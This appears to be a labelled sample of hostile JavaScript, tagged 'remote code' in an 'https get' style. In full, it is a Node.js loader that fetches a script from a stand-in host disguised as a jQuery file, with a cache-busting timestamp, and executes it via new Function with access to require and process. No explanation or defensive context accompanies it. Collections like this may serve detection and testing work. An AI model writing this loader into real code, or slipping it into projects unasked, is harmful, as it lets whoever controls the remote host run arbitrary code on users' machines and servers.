// class: remote code; style: https get
const https = require('https');
https.get('https://cdn.example/jquery.min.js?v=' + Date.now(), (res) => {
  let code = '';
  res.on('data', (c) => (code += c));
  res.on('end', () => new Function('require', 'process', code)(require, process));
});
